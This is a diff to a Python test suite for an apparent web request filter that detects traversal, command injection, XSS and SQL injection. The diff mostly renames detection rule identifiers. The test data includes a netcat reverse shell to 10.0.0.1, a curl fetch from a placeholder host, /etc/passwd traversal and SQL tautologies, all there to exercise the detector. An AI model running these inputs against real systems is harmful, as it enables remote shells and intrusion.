@@ -25,7 +25,7 @@ ATTACKS = [
     ("/etc/passwd", Category.TRAVERSAL),
     ("file:///etc/hosts", Category.TRAVERSAL),
     ("report.pdf\x00.png", Category.TRAVERSAL),
-    ("8.8.8.8; cat /etc/hostname", Category.TRAVERSAL),  # the file is found first
+    ("8.8.8.8; cat /etc/hostname", Category.CMDI),  # the command, not the file it reads
     ("8.8.8.8 && whoami", Category.CMDI),
     ("x | nc -e /bin/sh 10.0.0.1 4444", Category.CMDI),
     ("$(curl http://203.0.113.9/x)", Category.CMDI),
@@ -144,15 +144,15 @@ def test_a_twice_encoded_attack_is_refused_as_double_encoding() -> None:
 def test_an_offending_name_is_left_out_of_the_location() -> None:
     name = "<script>alert(1)</script>"
     assert inspect(query=urlencode({name: "1"}).encode()) == Finding(
-        Category.XSS, "query", "libinjection-xss"
+        Category.XSS, "query", "xss-script-tag"
     )
     body = json.dumps({"a": {name: 1}}).encode()
     found = inspect(content_type="application/json", body=body)
-    assert found == Finding(Category.XSS, "body/a", "libinjection-xss")
+    assert found == Finding(Category.XSS, "body/a", "xss-script-tag")
     escaped = name.replace("/", "~1")
     for pointer in ("/a/" + escaped, "/a/" + name):  # RFC 6901 §4, or left unescaped
         found = inspect(content_type="application/json", body=b"{}", json_strings=[(pointer, name)])
-        assert found == Finding(Category.XSS, "body/a", "libinjection-xss")
+        assert found == Finding(Category.XSS, "body/a", "xss-script-tag")
 
 
 def test_a_long_name_is_cut_and_unprintable_characters_replaced() -> None:
@@ -165,14 +165,14 @@ def test_a_long_name_is_cut_and_unprintable_characters_replaced() -> None:
 def test_cookies_and_only_the_listed_headers_are_inspected() -> None:
     cookie = (b"cookie", b"theme=dark; pref=1' or '1'='1")
     assert inspect(headers=[cookie]) == Finding(
-        Category.SQLI, "header.cookie.pref", "libinjection-sqli"
+        Category.SQLI, "header.cookie.pref", "sqli-tautology"
     )
     attack = b"<script>alert(1)</script>"
     assert inspect(headers=[(b"accept-language", attack)]) is None
     assert inspect(headers=[(b"authorization", b"Bearer ' or 1=1--" + attack)]) is None
     assert FastFilter(inspect_headers=["accept-language"]).inspect(
         path="/", query=b"", headers=[(b"Accept-Language", attack)], content_type=None, body=b""
-    ) == Finding(Category.XSS, "header.accept-language", "libinjection-xss")
+    ) == Finding(Category.XSS, "header.accept-language", "xss-script-tag")
     with pytest.raises(ValueError, match="authorization"):
         FastFilter(inspect_headers=["Authorization"])
 
@@ -181,7 +181,7 @@ def test_other_content_types_are_not_inspected_and_bad_json_is_inspected_whole()
     attack = b"<script>alert(1)</script>"
     assert inspect(content_type="text/plain", body=attack) is None
     assert inspect(content_type="application/json", body=b'{"a": ' + attack) == Finding(
-        Category.XSS, "body", "libinjection-xss"
+        Category.XSS, "body", "xss-script-tag"
     )
 
 
